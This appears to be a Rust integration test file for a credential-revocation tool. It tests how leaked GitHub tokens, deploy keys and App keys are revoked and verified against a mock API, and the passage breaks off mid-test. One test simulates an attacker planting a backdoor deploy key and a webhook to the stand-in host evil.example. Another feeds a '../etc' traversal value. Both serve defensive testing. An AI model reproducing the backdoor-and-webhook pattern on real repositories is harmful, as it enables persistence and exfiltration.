//! issue 17: every GitHub credential kind recognised, reachable and judged
//! right, through the binary, against Prism serving GitHub's OpenAPI
//! description in front of the token registry (peers/github/registry.mjs,
//! which cites GitHub's documentation beside each behaviour it models).

use std::process::{Command as Std, Output};

use base64::Engine as _;
use serde_json::{json, Value};

use crate::peers::{no_canary, peer};
use crate::support::{all_files, env_with_signer, Env};

fn unique(label: &str) -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(0);
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!(
        "{label}{}x{}x{}",
        std::process::id(),
        N.fetch_add(1, Ordering::SeqCst),
        t % 1_000_000_007
    )
}

/// POST to the registry's admin port (never through Prism).
fn admin(path: &str, body: Value) -> Value {
    let reg = peer("CORDON_TEST_GITHUB_REGISTRY_URL");
    let o = Std::new("curl")
        .args(["-fsS", "-X", "POST", &format!("{reg}{path}")])
        .args(["-H", "content-type: application/json", "-d"])
        .arg(body.to_string())
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "registry {path}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    serde_json::from_slice(&o.stdout).unwrap()
}

fn admin_get(path: &str) -> Value {
    let reg = peer("CORDON_TEST_GITHUB_REGISTRY_URL");
    let o = Std::new("curl")
        .args(["-fsS", &format!("{reg}{path}")])
        .output()
        .unwrap();
    assert!(o.status.success());
    serde_json::from_slice(&o.stdout).unwrap()
}

fn count(tag: &str, endpoint: &str) -> u64 {
    admin_get(&format!("/counts?tag={tag}"))[endpoint]
        .as_u64()
        .unwrap_or(0)
}

fn seed(tag: &str, token: &str, extra: Value) {
    let mut body = json!({"tag": tag, "login": "octo-bot", "scopes": ["repo"], "token": token});
    if let Value::Object(m) = extra {
        for (k, v) in m {
            body[k] = v;
        }
    }
    admin("/tokens", body);
}

fn classic(prefix: &str, tag: &str) -> String {
    cordon::intake::classify::make_classic_token(prefix, tag)
}

/// A token shaped like GitHub's 2026 stateless installation tokens:
/// `ghs_` + app id + `_` + a JWT (about 520 characters, two dots).
fn stateless(app_id: u64, tag: &str) -> String {
    let b = |v: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v);
    let exp = 4_102_444_800u64; // 2100-01-01
    let sig: String = (0..342)
        .map(|i| {
            let c = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
            c[(i * 7 + tag.len()) % 64] as char
        })
        .collect();
    format!(
        "ghs_{app_id}_{}.{}.{sig}",
        b(r#"{"alg":"RS256","typ":"JWT"}"#),
        b(&format!(
            r#"{{"iss":"github","exp":{exp},"installation_id":77,"jti":"{tag}"}}"#
        ))
    )
}

fn github_cmd(env: &Env) -> assert_cmd::Command {
    let mut c = env.cmd();
    c.env("CORDON_GITHUB_API_URL", peer("CORDON_TEST_GITHUB_URL"));
    c.env_remove("GITHUB_TOKEN");
    c
}

fn json_of(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|_| {
        panic!(
            "not json ({:?}):\n{}\n{}",
            o.status.code(),
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

fn code(o: &Output, want: i32) {
    assert_eq!(
        o.status.code(),
        Some(want),
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

fn revoke_token(env: &Env, key: &std::path::Path, token: &str) -> Output {
    github_cmd(env)
        .args([
            "--json",
            "revoke",
            "github-token",
            "--env",
            "LEAKED",
            "--as",
            "amara",
            "--key",
        ])
        .arg(key)
        .env("LEAKED", token)
        .output()
        .unwrap()
}

// issue 17, item 1: the stateless format was not recognised at all.
#[test]
fn stateless_installation_token_is_revoked_with_itself_and_proven_dead() {
    let (env, key) = env_with_signer();
    let tag = unique("stateless");
    let tok = stateless(424242, &tag);
    assert!(tok.len() > 500, "{}", tok.len());
    seed(&tag, &tok, json!({}));
    let o = revoke_token(&env, &key, &tok);
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(
        v["steps"][0]["action"], "github:revoke-installation-token",
        "{v}"
    );
    assert_eq!(v["steps"][0]["outcome"]["status"], "done", "{v}");
    assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v}");
    assert_eq!(count(&tag, "DELETE /installation/token"), 1);
    // Never through the revocation API, which does not take ghs_.
    assert_eq!(count(&tag, "POST /credentials/revoke"), 0);
    // The evidence names the app and the claimed expiry, never the token.
    let evidence: String = all_files(&env.home.join("evidence"))
        .iter()
        .map(|f| std::fs::read_to_string(f).unwrap())
        .collect();
    assert!(evidence.contains("\"app_id\":424242"), "{evidence}");
    assert!(evidence.contains("2100-01-01T00:00:00Z"), "{evidence}");
    no_canary(&env, &tok[12..60], &[&o.stdout, &o.stderr]);
}

// issue 17, item 2: a 401 to a refresh token proves nothing.
#[test]
fn refresh_token_is_always_revoked_and_never_called_dead() {
    let (env, key) = env_with_signer();
    let tag = unique("refresh");
    let tok = classic("ghr_", &tag);
    seed(&tag, &tok, json!({}));
    let o = revoke_token(&env, &key, &tok);
    // Revoked, but not verifiable: partial, never "dead".
    code(&o, 4);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["outcome"]["status"], "done", "{v}");
    assert_eq!(
        v["steps"][0]["verification"]["status"], "not-verified",
        "{v}"
    );
    assert!(
        v["steps"][0]["verification"]["detail"]
            .as_str()
            .unwrap()
            .contains("refresh token"),
        "{v}"
    );
    assert_eq!(count(&tag, "POST /credentials/revoke"), 1);
    // No call with the refresh token: GET /user would answer 401 either way.
    assert_eq!(count(&tag, "GET /user"), 0);
    no_canary(&env, &tok[4..], &[&o.stdout, &o.stderr]);
}

// issue 17, item 3: GitHub's rate-limit answer (403 + x-ratelimit-remaining: 0)
// is retried after its reset, not a permanent failure.
#[test]
fn rate_limited_revocation_is_retried_after_the_reset() {
    let (env, key) = env_with_signer();
    let tag = unique("ratelimit");
    let tok = classic("ghp_", &tag);
    seed(&tag, &tok, json!({}));
    admin(
        "/fail",
        json!({"tag": tag, "count": 1, "status": 403, "endpoint": "POST /credentials/revoke",
               "rate_limit_reset_in": 2}),
    );
    let started = std::time::Instant::now();
    let o = revoke_token(&env, &key, &tok);
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v}");
    assert_eq!(v["steps"][0]["attempts"], 2, "{v}");
    assert!(
        started.elapsed().as_secs() >= 1,
        "the reset was not waited for"
    );
    assert_eq!(count(&tag, "POST /credentials/revoke"), 2);
    // The second request waited for GitHub's reset (2 s after the refusal).
    let budget: Value = serde_json::from_slice(
        &std::fs::read(env.home.join("connectors/github-revoke-budget.json")).unwrap(),
    )
    .unwrap();
    let sent = budget["requests"].as_array().unwrap();
    assert_eq!(sent.len(), 2, "{budget}");
    assert!(
        sent[1].as_u64().unwrap() >= sent[0].as_u64().unwrap() + 2,
        "{budget}"
    );
    no_canary(&env, &tok[4..], &[&o.stdout, &o.stderr]);
}

/// The shipped policy without the rule that lets cordon call GitHub with a
/// leaked token.
fn policy_without_probe(env: &Env) -> std::path::PathBuf {
    let dir = env.dir.path().join("no-probe-policy");
    std::fs::create_dir_all(&dir).unwrap();
    for f in std::fs::read_dir(env.home.join("policy")).unwrap() {
        let f = f.unwrap();
        std::fs::copy(f.path(), dir.join(f.file_name())).unwrap();
    }
    let p = dir.join("authority.cedar");
    let text = std::fs::read_to_string(&p).unwrap();
    let start = text
        .find("@id(\"probe-leaked-token-for-evidence\")")
        .unwrap();
    let end = start + text[start..].find("};").unwrap() + 2;
    std::fs::write(&p, format!("{}{}", &text[..start], &text[end..])).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    dir
}

// issue 17, item 9: verification is a call with the leaked token too.
#[test]
fn without_the_probe_decision_no_call_uses_the_leaked_token() {
    let (env, key) = env_with_signer();
    let tag = unique("noprobe");
    let tok = classic("ghp_", &tag);
    seed(&tag, &tok, json!({}));
    let policy = policy_without_probe(&env);
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-token",
            "--env",
            "LEAKED",
            "--as",
            "amara",
            "--key",
        ])
        .arg(&key)
        .arg("--policy")
        .arg(&policy)
        .env("LEAKED", &tok)
        .output()
        .unwrap();
    code(&o, 4);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["outcome"]["status"], "done", "{v}");
    assert_eq!(
        v["steps"][0]["verification"]["status"], "not-verified",
        "{v}"
    );
    assert_eq!(count(&tag, "POST /credentials/revoke"), 1);
    assert_eq!(count(&tag, "GET /user"), 0, "a call with the leaked token");
    let recs = env.records();
    assert!(recs
        .iter()
        .any(|r| r["action"] == "github:probe-token" && r["decision"]["effect"] == "deny"));
}

// issue 17, item 7: GitHub Enterprise Server, by its version.
#[test]
fn enterprise_server_revocation_follows_the_servers_version() {
    // 3.19: authenticated, ghp_ and github_pat_ only.
    let (env, key) = env_with_signer();
    let tag = unique("ghes19");
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(
        &tag,
        &own,
        json!({"ghes_version": "3.19.0", "login": "cordon-bot"}),
    );
    let ghp = classic("ghp_", &tag);
    let gho = classic("gho_", &tag);
    seed(&tag, &ghp, json!({}));
    seed(&tag, &gho, json!({}));
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-token",
            "--stdin",
            "--as",
            "amara",
            "--key",
        ])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .write_stdin(format!("{ghp}\n{gho}\n"))
        .output()
        .unwrap();
    code(&o, 4);
    let v = json_of(&o);
    let steps = v["steps"].as_array().unwrap();
    let by_fp = |t: &str| {
        let fp = cordon_connector::fingerprint(t.as_bytes());
        steps
            .iter()
            .find(|s| s["target"].as_str().unwrap().ends_with(fp.as_str()))
            .cloned()
            .unwrap_or_else(|| panic!("no step for a token: {v}"))
    };
    let s_ghp = by_fp(&ghp);
    assert_eq!(s_ghp["outcome"]["status"], "done", "{v}");
    assert_eq!(s_ghp["verification"]["status"], "dead", "{v}");
    let s_gho = by_fp(&gho);
    assert_eq!(s_gho["outcome"]["status"], "failed", "{v}");
    assert!(
        s_gho["outcome"]["error"]
            .as_str()
            .unwrap()
            .contains("takes only ghp_ and github_pat_"),
        "{v}"
    );
    // One authenticated request, with the ghp_ only (the registry refuses a
    // request holding another kind with 422, as the test would then fail).
    assert_eq!(count(&tag, "POST /credentials/revoke"), 1);
    assert_eq!(count(&tag, "GET /meta"), 1);
    no_canary(&env, &own[4..], &[&o.stdout, &o.stderr]);

    // 3.18: no revocation API at all; nothing is sent.
    let (env, key) = env_with_signer();
    let tag = unique("ghes18");
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(
        &tag,
        &own,
        json!({"ghes_version": "3.18.2", "login": "cordon-bot"}),
    );
    let ghp = classic("ghp_", &tag);
    seed(&tag, &ghp, json!({}));
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-token",
            "--env",
            "LEAKED",
            "--as",
            "amara",
            "--key",
        ])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .env("LEAKED", &ghp)
        .output()
        .unwrap();
    code(&o, 1);
    let v = json_of(&o);
    assert!(
        v["steps"][0]["outcome"]["error"]
            .as_str()
            .unwrap()
            .contains("3.18 has no credential revocation api"),
        "{v}"
    );
    assert_eq!(count(&tag, "POST /credentials/revoke"), 0);
}

// issue 17, item 4: the OAuth path is reachable from the command line.
#[test]
fn oauth_token_is_revoked_through_its_app_and_checked_by_the_app() {
    let (env, key) = env_with_signer();
    let tag = unique("oauth");
    let client_id = format!("Iv1.{}", &tag[tag.len() - 12..]);
    let client_secret = format!("secret-{tag}");
    admin(
        "/oauth-apps",
        json!({"tag": tag, "client_id": client_id, "client_secret": client_secret}),
    );
    let tok = classic("gho_", &tag);
    seed(&tag, &tok, json!({"client_id": client_id}));
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-oauth-token",
            "--client-id",
            &client_id,
            "--env",
            "LEAKED",
            "--as",
            "amara",
            "--key",
        ])
        .arg(&key)
        .env("LEAKED", &tok)
        .env("CORDON_GITHUB_OAUTH_CLIENT_ID", &client_id)
        .env("CORDON_GITHUB_OAUTH_CLIENT_SECRET", &client_secret)
        .output()
        .unwrap();
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["action"], "github:revoke-oauth-token");
    assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v}");
    assert_eq!(count(&tag, "DELETE /applications/{client_id}/token"), 1);
    // Verified by the app's check, not with the leaked token.
    assert_eq!(count(&tag, "GET /user"), 0);
    no_canary(&env, &tok[4..], &[&o.stdout, &o.stderr]);
    no_canary(&env, &client_secret, &[&o.stdout, &o.stderr]);
}

// issue 17, item 4: a deploy key, found by the leaked private key's fingerprint.
#[test]
fn deploy_key_is_found_by_the_leaked_private_key_and_deleted() {
    let (env, key) = env_with_signer();
    let tag = unique("deploykey");
    let owner = "octo-org";
    let repo = format!("r-{tag}");
    let leaked = env.dir.path().join("deploy_key");
    let st = Std::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f"])
        .arg(&leaked)
        .status()
        .unwrap();
    assert!(st.success());
    let public = std::fs::read_to_string(leaked.with_extension("pub")).unwrap();
    let seeded = admin(
        "/deploy-keys",
        json!({"tag": tag, "owner": owner, "repo": repo, "key": public.trim()}),
    );
    // Another key on the same repository stays.
    let other = env.dir.path().join("other_key");
    assert!(Std::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&other)
        .status()
        .unwrap()
        .success());
    let other_pub = std::fs::read_to_string(other.with_extension("pub")).unwrap();
    admin(
        "/deploy-keys",
        json!({"tag": tag, "owner": owner, "repo": repo, "key": other_pub.trim()}),
    );
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(&tag, &own, json!({"login": "cordon-bot"}));
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-deploy-key",
            "--repo",
            &format!("{owner}/{repo}"),
            "--key-file",
        ])
        .arg(&leaked)
        .args(["--as", "amara", "--key"])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .output()
        .unwrap();
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(
        v["steps"][0]["target"],
        format!(
            "github:deploy-key/{}",
            seeded["fingerprint"].as_str().unwrap()
        ),
        "{v}"
    );
    assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v}");
    let left = admin_get(&format!("/deploy-keys?owner={owner}&repo={repo}"));
    assert_eq!(left.as_array().unwrap().len(), 1, "{left}");
    assert_ne!(left[0]["fingerprint"], seeded["fingerprint"]);
    let private = std::fs::read_to_string(&leaked).unwrap();
    let body: String = private
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    no_canary(&env, &body[20..60], &[&o.stdout, &o.stderr]);
}

// issue 17, items 4 and 6: a fine-grained token's organisation access,
// reported as partial.
#[test]
fn org_pat_access_removal_is_reported_partial() {
    let (env, key) = env_with_signer();
    let tag = unique("orgpat");
    let org = format!("org-{}", &tag[tag.len() - 10..]);
    let app = admin("/apps", json!({"tag": tag, "org": org}));
    let pem = env.dir.path().join("app.pem");
    std::fs::write(&pem, app["private_key_pem"].as_str().unwrap()).unwrap();
    let pat = admin(
        "/org-pats",
        json!({"tag": tag, "org": org, "owner": "mallory"}),
    );
    let pat_id = pat["id"].as_u64().unwrap().to_string();
    let o = github_cmd(&env)
        .args([
            "--json",
            "revoke",
            "github-org-pat",
            "--org",
            &org,
            "--pat-id",
            &pat_id,
            "--as",
            "amara",
            "--key",
        ])
        .arg(&key)
        .env("CORDON_GITHUB_APP_ID", app["app_id"].to_string())
        .env("CORDON_GITHUB_APP_KEY", &pem)
        .output()
        .unwrap();
    code(&o, 4);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["outcome"]["status"], "done", "{v}");
    assert_eq!(v["steps"][0]["verification"]["status"], "partial", "{v}");
    assert!(
        v["steps"][0]["verification"]["detail"]
            .as_str()
            .unwrap()
            .contains("stays valid"),
        "{v}"
    );
    assert_eq!(
        count(&tag, "POST /orgs/{org}/personal-access-tokens/{pat_id}"),
        1
    );
}

/// A gitleaks `private-key` finding holding `key` (the whole block, as
/// gitleaks reports it).
fn private_key_report(dir: &std::path::Path, key: &str) -> std::path::PathBuf {
    let report = json!([{
        "RuleID": "private-key",
        "Description": "Identified a Private Key, which may compromise cryptographic security and sensitive data encryption.",
        "StartLine": 1, "EndLine": 7, "StartColumn": 1, "EndColumn": 36,
        "Line": key, "Match": key, "Secret": key,
        "File": "deploy/id_ed25519", "SymlinkFile": "", "Commit": "",
        "Entropy": 5.9, "Author": "", "Email": "", "Date": "", "Message": "",
        "Tags": [], "Fingerprint": "deploy/id_ed25519:private-key:1"
    }]);
    let path = dir.join("gitleaks-key.json");
    std::fs::write(&path, report.to_string()).unwrap();
    path
}

// issue 17, item 4: `respond` reaches the deploy-key action: a leaked private
// key in a scanner report is deleted from the repository it is deployed on
// when the repository is given, and otherwise the finding names the command.
#[test]
fn respond_deletes_the_deploy_key_of_a_leaked_private_key_or_names_the_command() {
    let (env, key) = env_with_signer();
    let tag = unique("respondkey");
    let owner = "octo-org";
    let repo = format!("r-{tag}");
    let leaked = env.dir.path().join("deploy_key");
    assert!(Std::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f"])
        .arg(&leaked)
        .status()
        .unwrap()
        .success());
    let public = std::fs::read_to_string(leaked.with_extension("pub")).unwrap();
    let seeded = admin(
        "/deploy-keys",
        json!({"tag": tag, "owner": owner, "repo": repo, "key": public.trim()}),
    );
    let fingerprint = seeded["fingerprint"].as_str().unwrap().to_owned();
    let private = std::fs::read_to_string(&leaked).unwrap();
    let report = private_key_report(env.dir.path(), &private);
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(&tag, &own, json!({"login": "cordon-bot"}));
    let body: String = private
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();

    // Without the repository: not contained, and the exact command is named.
    let o = github_cmd(&env)
        .args(["--json", "respond", "--report"])
        .arg(&report)
        .args(["--as", "amara", "--key"])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .output()
        .unwrap();
    code(&o, 1);
    let v = json_of(&o);
    let row = &v["findings"][0];
    assert_eq!(row["status"], "failed", "{v:#}");
    let detail = row["detail"].as_str().unwrap();
    assert!(
        detail.contains(&format!(
            "cordon revoke github-deploy-key --repo OWNER/REPO --fingerprint {fingerprint}"
        )),
        "{detail}"
    );
    assert_eq!(
        admin_get(&format!("/deploy-keys?owner={owner}&repo={repo}"))
            .as_array()
            .unwrap()
            .len(),
        1
    );

    // With it: planned, gated, deleted and verified gone.
    let o = github_cmd(&env)
        .args(["--json", "respond", "--report"])
        .arg(&report)
        .args(["--github-repo", &format!("{owner}/{repo}")])
        .args(["--as", "amara", "--key"])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .output()
        .unwrap();
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(v["findings"][0]["status"], "contained", "{v:#}");
    assert!(v["findings"][0]["credential"]
        .as_str()
        .unwrap()
        .contains(&fingerprint));
    let left = admin_get(&format!("/deploy-keys?owner={owner}&repo={repo}"));
    assert!(left.as_array().unwrap().is_empty(), "{left}");
    let plan = env.ok(&["--json", "plan", "show", v["plan"].as_str().unwrap()]);
    assert!(plan.contains("github:delete-deploy-key") && plan.contains(&fingerprint));
    // A bad repository is a usage error before anything.
    let bad = github_cmd(&env)
        .args(["respond", "--report"])
        .arg(&report)
        .args(["--github-repo", "../etc", "--as", "amara"])
        .output()
        .unwrap();
    code(&bad, 2);
    no_canary(&env, &body[20..60], &[&o.stdout, &o.stderr]);
}

// issue 17, item 4: when the revocation API cannot take a token (GHES 3.19
// takes only ghp_ and github_pat_), `respond` names, per finding, the command
// that contains it another way; the finding gives none of its arguments.
#[test]
fn respond_names_the_oauth_command_for_a_token_the_revocation_api_refuses() {
    let (env, key) = env_with_signer();
    let tag = unique("respondoauth");
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(
        &tag,
        &own,
        json!({"ghes_version": "3.19.0", "login": "cordon-bot"}),
    );
    let gho = classic("gho_", &tag);
    seed(&tag, &gho, json!({}));
    let o = github_cmd(&env)
        .args([
            "--json", "respond", "--report", "-", "--format", "plain", "--as", "amara", "--key",
        ])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .write_stdin(format!("TOKEN={gho}\n"))
        .output()
        .unwrap();
    code(&o, 1);
    let v = json_of(&o);
    let detail = v["findings"][0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("takes only ghp_ and github_pat_")
            && detail
                .contains("`cordon revoke github-oauth-token --client-id CLIENT_ID --env VAR`"),
        "{v:#}"
    );
    no_canary(&env, &gho[4..], &[&o.stdout, &o.stderr]);
}

// issue 17, item 5: a leaked GitHub App private key. The registry models the
// App (`GET /app` and its installations with a JWT signed by the App's current
// key, suspension, and the owner deleting the key: no API does that), citing
// GitHub's documentation beside each behaviour.
#[test]
fn a_leaked_app_key_identifies_the_app_suspends_its_installations_and_is_rechecked() {
    let (env, key) = env_with_signer();
    let tag = unique("appkey");
    let org = format!("org-{tag}");
    let other_org = format!("org2-{tag}");
    let app = admin(
        "/apps",
        json!({"tag": tag, "org": org, "more_orgs": [other_org], "slug": format!("leaky-{tag}"), "owner": "octo-org"}),
    );
    let app_id = app["app_id"].as_u64().unwrap();
    let pem = app["private_key_pem"].as_str().unwrap().to_owned();
    let report = private_key_report(env.dir.path(), &pem);
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(&tag, &own, json!({"login": "cordon-bot"}));
    let opened: Value = serde_json::from_str(&env.ok(&[
        "--json",
        "incident",
        "open",
        "--title",
        "app key leak",
        "--as",
        "amara",
    ]))
    .unwrap();
    let incident = opened["incident"].as_str().unwrap().to_owned();
    let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();

    // Without the App's id the key cannot be tied to an App: the finding says how.
    let o = github_cmd(&env)
        .args(["--json", "respond", "--report"])
        .arg(&report)
        .args(["--as", "amara", "--key"])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .output()
        .unwrap();
    code(&o, 1);
    let v = json_of(&o);
    assert!(
        v["findings"][0]["detail"]
            .as_str()
            .unwrap()
            .contains("--github-app-id ID"),
        "{v:#}"
    );

    // With it, at critical severity (the shipped policy lets a security
    // engineer suspend an App alone only then).
    let o = github_cmd(&env)
        .args(["--json", "respond", "--report"])
        .arg(&report)
        .args(["--github-app-id", &app_id.to_string()])
        .args(["--severity", "critical", "--incident", &incident])
        .args(["--as", "amara", "--key"])
        .arg(&key)
        .env("GITHUB_TOKEN", &own)
        .output()
        .unwrap();
    code(&o, 4);
    let v = json_of(&o);
    let row = &v["findings"][0];
    assert_eq!(row["status"], "unverified", "{v:#}");
    let detail = row["detail"].as_str().unwrap();
    assert!(
        detail.contains("partial")
            && detail.contains(&format!(
                "https://github.com/organizations/octo-org/settings/apps/leaky-{tag}"
            ))
            && detail.contains("Private keys"),
        "{detail}"
    );
    let insts = admin_get(&format!("/installations?app_id={app_id}"));
    assert_eq!(insts.as_array().unwrap().len(), 2, "{insts}");
    assert!(
        insts
            .as_array()
            .unwrap()
            .iter()
            .all(|i| !i["suspended_at"].is_null()),
        "{insts}"
    );
    // The instruction for the App's owner is a task of the incident.
    let shown = env.ok(&["--json", "incident", "show", &incident]);
    assert!(
        shown.contains("delete the leaked private key") && shown.contains(&format!("leaky-{tag}")),
        "{shown}"
    );
    let plan = v["plan"].as_str().unwrap().to_owned();

    // Later: the owner deleted the key; `cordon verify` proves it refused.
    admin(&format!("/apps/{app_id}/delete-key"), json!({}));
    let o = github_cmd(&env)
        .args([
            "--json",
            "verify",
            &plan,
            "--secrets-stdin",
            "--as",
            "amara",
        ])
        .env("GITHUB_TOKEN", &own)
        .write_stdin(pem.clone())
        .output()
        .unwrap();
    code(&o, 0);
    let v = json_of(&o);
    assert_eq!(v["steps"][0]["before"]["status"], "partial", "{v:#}");
    assert_eq!(v["steps"][0]["verification"]["status"], "dead", "{v:#}");
    no_canary(&env, &body[20..60], &[&o.stdout, &o.stderr]);
}

/// A call made with `token` through Prism (the attacker's side of a test).
fn api_post(token: &str, path: &str, body: Value) -> Value {
    let url = peer("CORDON_TEST_GITHUB_URL");
    let o = Std::new("curl")
        .args(["-fsS", "-X", "POST", &format!("{url}{path}")])
        .args(["-H", "content-type: application/json"])
        .args(["-H", &format!("authorization: Bearer {token}")])
        .arg("-d")
        .arg(body.to_string())
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "POST {path}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    serde_json::from_slice(&o.stdout).unwrap()
}

fn ssh_public_key(dir: &std::path::Path, name: &str) -> String {
    let path = dir.join(name);
    assert!(Std::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&path)
        .status()
        .unwrap()
        .success());
    std::fs::read_to_string(path.with_extension("pub"))
        .unwrap()
        .trim()
        .to_owned()
}

fn respond_token(
    env: &Env,
    key: &std::path::Path,
    own: &str,
    token: &str,
    extra: &[&str],
) -> Output {
    github_cmd(env)
        .args(["respond", "--report", "-", "--format", "plain"])
        .args(extra)
        .args(["--as", "amara", "--key"])
        .arg(key)
        .env("GITHUB_TOKEN", own)
        .write_stdin(format!("TOKEN={token}\n"))
        .output()
        .unwrap()
}

// issue 17, item 8: cordon's fingerprint is GitHub's `hashed_token`. After the
// kill, the organisation audit log is searched with it (cordon's own token,
// never the leaked one), and what the token left behind becomes incident
// tasks with the exact way to undo it. The registry records an audit-log
// event for each call it served with a token and answers the search as GitHub
// documents it: if the `hashed_token` phrase were not sent (or not applied),
// the other token's deploy key would be in the answer, and cordon says then
// that nothing can be attributed instead of listing it.
#[test]
fn what_a_leaked_token_did_becomes_incident_tasks() {
    let (env, key) = env_with_signer();
    let tag = unique("activity");
    let org = format!("org-{tag}");
    let repo = format!("r-{tag}");
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(&tag, &own, json!({"login": "cordon-bot"}));
    let leaked = classic("ghp_", &tag);
    seed(&tag, &leaked, json!({"login": "octo-bot"}));
    let other = classic("ghp_", &format!("{tag}-other"));
    seed(&tag, &other, json!({"login": "octo-dev"}));
    admin(
        "/audit-orgs",
        json!({"tag": tag, "org": org, "owners": ["cordon-bot"]}),
    );

    // The attacker, with the leaked token: a deploy key with write access and
    // a webhook. Someone else, with another token, adds a deploy key too.
    let backdoor = ssh_public_key(env.dir.path(), "backdoor");
    let planted = api_post(
        &leaked,
        &format!("/repos/{org}/{repo}/keys"),
        json!({"title": "backdoor", "key": backdoor, "read_only": false}),
    );
    let hook = api_post(
        &leaked,
        &format!("/repos/{org}/{repo}/hooks"),
        json!({"config": {"url": "https://evil.example/h", "content_type": "json"}, "events": ["push"]}),
    );
    let hook_id = hook["id"].as_u64().unwrap();
    let theirs = ssh_public_key(env.dir.path(), "theirs");
    api_post(
        &other,
        &format!("/repos/{org}/{repo}/keys"),
        json!({"title": "ci", "key": theirs}),
    );
    let keys = admin_get(&format!("/deploy-keys?owner={org}&repo={repo}"));
    let fp_of = |id: &Value| {
        keys.as_array()
            .unwrap()
            .iter()
            .find(|k| &k["id"] == id)
            .unwrap()["fingerprint"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let backdoor_fp = fp_of(&planted["id"]);
    let theirs_fp = keys
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["fingerprint"].as_str().unwrap().to_owned())
        .find(|f| *f != backdoor_fp)
        .unwrap();

    let opened: Value = serde_json::from_str(&env.ok(&[
        "--json",
        "incident",
        "open",
        "--title",
        "token leak",
        "--as",
        "amara",
    ]))
    .unwrap();
    let incident = opened["incident"].as_str().unwrap().to_owned();
    let o = respond_token(
        &env,
        &key,
        &own,
        &leaked,
        &["--json", "--github-org", &org, "--incident", &incident],
    );
    code(&o, 0);
    let v = json_of(&o);
    let row = &v["findings"][0];
    assert_eq!(row["status"], "contained", "{v:#}");
    let a = &row["activity"][0];
    assert_eq!(a["org"], org.as_str(), "{v:#}");
    assert_eq!(a["events"], 2, "{v:#}");
    assert_eq!(a["persistence"], 2, "{v:#}");
    assert_eq!(a["tasks_recorded"], true, "{v:#}");
    let doors = a["doors"].to_string();
    assert!(
        doors.contains(&format!(
            "cordon revoke github-deploy-key --repo {org}/{repo} --fingerprint {backdoor_fp}"
        )) && doors.contains(&format!("DELETE /repos/{org}/{repo}/hooks/{hook_id}"))
            && doors.contains("https://evil.example/h"),
        "{doors}"
    );
    assert!(!doors.contains(&theirs_fp), "{doors}");
    // Searched with cordon's own token: the leaked one never left cordon.
    assert_eq!(count(&tag, "GET /orgs/{org}/audit-log"), 1);

    // The tasks are on the incident, only this token's, and after the kill.
    let shown = env.ok(&["--json", "incident", "show", &incident]);
    assert!(
        shown.contains(&backdoor_fp) && shown.contains(&format!("hooks/{hook_id}")),
        "{shown}"
    );
    assert!(!shown.contains(&theirs_fp), "{shown}");
    let records = env.records();
    let kind_at = |k: &str| records.iter().position(|r| r["kind"] == k);
    let last_outcome = records.iter().rposition(|r| r["kind"] == "outcome");
    assert!(
        kind_at("task").unwrap() > last_outcome.unwrap(),
        "{records:#?}"
    );

    // A re-run adds no second task for the same doors.
    let again = respond_token(
        &env,
        &key,
        &own,
        &leaked,
        &["--json", "--github-org", &org, "--incident", &incident],
    );
